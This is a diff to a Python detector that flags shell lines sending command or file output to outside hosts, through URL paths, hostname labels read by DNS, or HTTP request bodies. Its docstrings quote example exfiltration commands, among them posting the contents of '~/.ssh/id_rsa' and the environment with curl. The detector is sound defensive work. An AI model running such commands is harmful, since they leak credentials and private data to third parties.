@@ -241,6 +241,9 @@ def proxy_hosts(text: str) -> Iterator[str]:
 
 
 OUTPUT_URL = re.compile(rf"(?i)(?<![\w+.-])(?:https?|wss?|ftp)://(?:[^@/\s'\"$`]+@)?({HOST})")
+# ... or in the host's own labels: http://$(id -u).x.example.net/ asks DNS for the output under the zone
+OUTPUT_IN_HOST = re.compile(rf"(?i)(?<![\w+.-])(?:https?|wss?|ftp)://(?:[^@/\s'\"]+@)?"
+                            rf"((?:(?:[\w-]|\$\([^()]{{0,200}}\)|`[^`]{{0,200}}`)+\.)+?)({HOST})")
 URL_WORD = re.compile(r"[^\s|;&<>]*")
 URL_SPAN_MAX = 2000                  # how far into a URL its command substitutions are looked for
 
@@ -248,7 +251,8 @@ URL_SPAN_MAX = 2000                  # how far into a URL its command substituti
 def command_output_url_hosts(text: str) -> Iterator[str]:
     """The named hosts of URLs on a line that carry a command's output: ``"https://h/u?d=$(whoami)@$(hostname)"``,
     ``https://h/`id```, ``'https://h/?k='$(base64 -w0 f)`` - the shell computes something and the address itself
-    takes it out, whichever program is handed the address. A URL in double quotes runs to the closing quote (a
+    takes it out, whichever program is handed the address; so does a substitution among the host's own labels
+    (``http://$(id -u).x.example.net/``: DNS carries it). A URL in double quotes runs to the closing quote (a
     substitution in it may hold spaces and pipes); otherwise to the first space or shell operator (a
     substitution's ``$(`` comes before any space in it)."""
     for m in OUTPUT_URL.finditer(text):
@@ -260,6 +264,31 @@ def command_output_url_hosts(text: str) -> Iterator[str]:
             span = URL_WORD.match(text, start, end).group(0)      # enough to hold a substitution's start
         if "$(" in span or "`" in span:
             yield m.group(1)
+    for m in OUTPUT_IN_HOST.finditer(text):
+        if "$(" in m.group(1) or "`" in m.group(1):
+            yield m.group(2)
+
+
+# A request body an HTTP client is handed (-d, --data*, --json, --post-data, -F), and the commands whose output in it
+# is data of the node's (a file, an encoding of one, the environment, a listing) rather than a timestamp or a counter.
+BODY_OPTION = re.compile(r"""(?:^|\s)(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|--json|--post-data|--body-data"""
+                         r"""|-F|--form)(?:=|\s+)(?:'[^']*'|"(?:[^"\\]|\\.)*"|\S+)""")
+BODY_READER = re.compile(r"(?:\$\(|`)\s*(?:\S*/)?(?:cat|tac|base64|base32|basenc|xxd|od|hexdump|gzip|bzip2|xz|zstd"
+                         r"|tar|zip|head|tail|env|printenv|openssl|strings|dd|find|ls|jq)\b")
+HTTP_CLIENTS = frozenset(("curl", "wget", "wget2", "http", "https", "xh", "curlie"))
+
+
+def posted_output_hosts(text: str) -> Iterator[str]:
+    """The named hosts an HTTP client posts a file's or a command's data to inside the request body
+    (``curl -d "{\\"content\\":\\"$(base64 -w0 f)\\"}" https://api.h/...``, ``--data "$(cat ~/.ssh/id_rsa)"``,
+    ``-F "x=$(env)"``): an API of someone else's taking the data, with no file upload option to see. A body whose
+    substitution is a date or a counter is not counted."""
+    if not any(BODY_READER.search(m.group(0)) for m in BODY_OPTION.finditer(text)):
+        return
+    if any((words := command_words(stage)) and words[0] in HTTP_CLIENTS for stage, _piped in _stages(text)):
+        for m in REMOTE_URL.finditer(text):        # the body's substitution splits the client's stage: the whole line
+            if m.group(1).lower() in WEB_SCHEMES:
+                yield m.group(2)
 
 
 # Browsers run without a window, by the names they ship under.
